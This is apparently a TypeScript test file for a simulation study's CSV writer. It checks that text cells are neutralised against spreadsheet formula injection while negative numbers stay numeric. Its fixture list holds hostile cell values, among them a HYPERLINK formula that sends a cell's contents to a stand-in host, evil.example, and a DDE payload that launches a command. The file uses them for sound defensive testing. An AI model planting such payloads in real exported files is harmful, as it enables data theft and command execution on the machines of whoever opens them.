import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runStudy, writeStudy } from '../../sim/index.ts';
import { tinyScenario } from './sim-fixtures.ts';

// Red team 39 leftover: rounds.csv and events.csv wrote text cells as they came, so a scenario's variant name (or any
// text) starting with "=", "+", "-" or "@" ran as a formula when a researcher opened the file in a spreadsheet. Text
// cells that would are now prefixed with a single quote; numbers (negative ones included) are written as they are.

/** The cells of a CSV document (RFC 4180 quoting). */
function cellsOf(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (cell += '"'), i++;
      else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') row.push(cell), (cell = '');
    else if (ch === '\n') row.push(cell), rows.push(row), (row = []), (cell = '');
    else cell += ch;
  }
  return rows;
}

const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?$/;

describe('the CSV files of a study', () => {
  it('neutralise text cells a spreadsheet would run as formulas, and keep negative numbers numbers', async () => {
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', '+1+cmd|" /C calc"!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1'];
    const raw = tinyScenario({
      consumers: { count: 2 },
      rounds: 2,
      policies: ['butler', 'naive'],
      brands: { count: 3, honestMix: { honest: 1 }, categoriesPerBrand: 3 },
      variants: hostile.map((_, i) => ({ name: `v${i}`, set: {} })),
    });
    const run = await runStudy({ raw, source: 'tiny', overrides: [] }, { mode: 'fast', workers: 1, events: true });
    // The writer is what is tested: whatever text a study carries (names, products) reaches it as it is.
    const study = { ...run, variants: run.variants.map((v, i) => ({ ...v, name: hostile[i]!, events: v.events.map((e) => ({ ...e, product: hostile[i]!, welfare: -0.25 })) })) };
    const dir = mkdtempSync(join(tmpdir(), 'sim-csv-formula-'));
    await writeStudy(study, dir);
    let negatives = 0;
    for (const file of ['rounds.csv', 'events.csv']) {
      const rows = cellsOf(readFileSync(join(dir, file), 'utf8'));
      expect(rows.length).toBeGreaterThan(hostile.length);
      // Each variant's name is there, read back as text a spreadsheet shows as it is.
      expect(new Set(rows.slice(1).map((r) => r[0]))).toEqual(new Set(hostile.map((name) => `'${name}`)));
      if (file === 'events.csv') expect(new Set(rows.slice(1).map((r) => r[rows[0]!.indexOf('product')]))).toEqual(new Set(hostile.map((name) => `'${name}`)));
      for (const cell of rows.flat()) {
        if (NUMBER.test(cell)) negatives += cell.startsWith('-') ? 1 : 0;
        else expect(cell).not.toMatch(FORMULA_START);
      }
    }
    // Welfare below zero is written as a number, unquoted and unprefixed.
    expect(negatives).toBeGreaterThan(0);
    expect(readFileSync(join(dir, 'events.csv'), 'utf8')).toContain(',-0.25,');
  }, 60_000);
});
